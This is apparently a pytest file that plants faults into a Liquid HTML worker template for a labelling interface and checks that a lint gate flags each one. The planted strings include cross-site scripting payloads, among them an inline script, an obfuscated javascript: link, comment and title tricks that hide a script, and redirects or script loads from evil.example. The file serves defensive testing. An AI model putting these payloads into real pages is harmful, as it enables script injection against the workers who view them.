"""The lint gate goes red for a worker template that could run or show what a file name or a class says."""

from pathlib import Path
from typing import Any

import pytest
from planted_faults import Fault, findings_with, in_file, rename

from lint import worker_templates

PAGE = "functions/labelloop/people/worker_ui/boxes.liquid.html"

FAULTS: dict[str, tuple[Any, Fault, str]] = {
    # F18: what a file is called, or a class, must never become markup on somebody's page.
    "worker template that switches escaping off": (
        worker_templates,
        in_file(PAGE, "task.input.header | escape", "task.input.header | skip_autoescape"),
        "skip_autoescape lets a file name or label become markup",
    ),
    "worker template with an unescaped attribute": (
        worker_templates,
        in_file(PAGE, "task.input.labels | to_json | escape", "task.input.labels | to_json"),
        "task.input.labels | to_json stands in an attribute: end it with | escape",
    ),
    "worker template that escapes before another filter": (
        worker_templates,
        in_file(PAGE, "task.input.labels | to_json | escape", "task.input.labels | escape | to_json"),
        "stands in an attribute: end it with | escape",
    ),
    "worker template with an attribute without quotes": (
        worker_templates,
        in_file(PAGE, '"{{ task.input.header | escape }}"', "{{ task.input.header | escape }}"),
        "task.input.header | escape stands in a tag without quotes",
    ),
    "worker template with an unescaped text": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "<p>{{ task.input.header }}</p></crowd-bounding-box>"),
        "task.input.header is shown as it is",
    ),
    "worker template with a value in a script": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<script>var x = '{{ task.input.header | escape }}';</script><crowd-form>"),
        "stands in a script or style",
    ),
    "worker template that prints with a tag": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "{% echo task.input.header %}</crowd-bounding-box>"),
        "the tag echo prints what this lint does not look at",
    ),
    "worker template that prints with a tag over two lines": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "{%-\n  cycle task.input.header, 'x' -%}</crowd-bounding-box>"),
        "the tag cycle prints what this lint does not look at",
    ),
    "worker template with a block of Liquid": (
        worker_templates,
        in_file(PAGE, "</crowd-bounding-box>", "{%- liquid\n  echo task.input.header\n%}</crowd-bounding-box>"),
        "the tag liquid prints what this lint does not look at",
    ),
    "worker template whose escaping is undone by a filter": (
        worker_templates,
        in_file(PAGE, "task.input.header | escape", "task.input.header | escape | replace: '&lt;', '<' | escape"),
        "escape once, at the end",
    ),
    "worker template with a value in a handler": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<crowd-form onclick=\"f('{{ task.input.header | escape }}')\">"),
        "has the attribute onclick",
    ),
    "worker template with a value as an address": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '<a href="{{ task.input.header | escape }}">more</a></crowd-form>'),
        "only | grant_read_access may fill it, alone",
    ),
    "worker template with a value in an address": (
        worker_templates,
        in_file(PAGE, 'src="{{ task.input.taskObject', 'src="//evil.example/{{ task.input.taskObject'),
        "stands in a tag without quotes",
    ),
    "worker template with a signed address as a text": (
        worker_templates,
        in_file(PAGE, "task.input.header | escape", "task.input.header | grant_read_access"),
        "stands in an attribute: end it with | escape",
    ),
    "worker template with a frame": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '<iframe srcdoc="{{ task.input.header | escape }}"></iframe></crowd-form>'),
        "<iframe> has no place in a worker template",
    ),
    "worker template that hides a script behind a comment": (
        worker_templates,
        in_file(
            PAGE,
            "</crowd-form>",
            '<!-- <a title=" --><script>f("{{ task.input.header | escape }}")</script><!-- "> --></crowd-form>',
        ),
        "has an HTML comment",
    ),
    "worker template that hides a script behind a title": (
        worker_templates,
        in_file(
            PAGE, "</crowd-form>", '<title><a b="</title><i c="{{ task.input.header | escape }}"></i></crowd-form>'
        ),
        "<title> has no place",
    ),
    "worker template with the crowd elements of somebody else": (
        worker_templates,
        in_file(PAGE, "https://assets.crowd.aws/", "https://evil.example/"),
        "runs a script of its own",
    ),
    "worker template with a script": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<script>alert(1)</script><crowd-form>"),
        "runs a script of its own",
    ),
    "worker template with an address that is a script": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '<a href=" java&#115;cript:alert(1)">x</a></crowd-form>'),
        "has a script as its href",
    ),
    "worker template that leaves the page": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", "<meta http-equiv=refresh content='0;url=//evil.example'></crowd-form>"),
        "<meta> has no place",
    ),
    "worker template with a value in a tag that does not end": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", '</crowd-form><a title="{{ task.input.header | escape }}"'),
        "in a tag that does not end",
    ),
    "worker template without a form": (
        worker_templates,
        in_file(PAGE, "<crowd-form>", "<form>"),
        "needs exactly one <crowd-form>",
    ),
    "worker template whose form does not end": (
        worker_templates,
        in_file(PAGE, "</crowd-form>", "</form>"),
        "needs exactly one </crowd-form>",
    ),
    "no worker template at all": (
        worker_templates,
        rename("functions/labelloop/people/worker_ui", "functions/labelloop/pages"),
        "holds no worker template",
    ),
}


@pytest.mark.fault("F18", "I14")
@pytest.mark.parametrize("name", FAULTS)
def test_a_fault_planted_into_a_worker_template_turns_the_gate_red(name: str, tmp_path: Path) -> None:
    checked, fault, message = FAULTS[name]
    findings = findings_with(fault, checked, tmp_path)
    assert any(message in finding for finding in findings), findings
